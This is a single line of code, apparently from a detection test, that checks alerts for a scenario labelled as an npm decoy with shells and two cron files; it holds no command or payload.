    p.check(alerts, "npm decoy and real shells with two cron files")
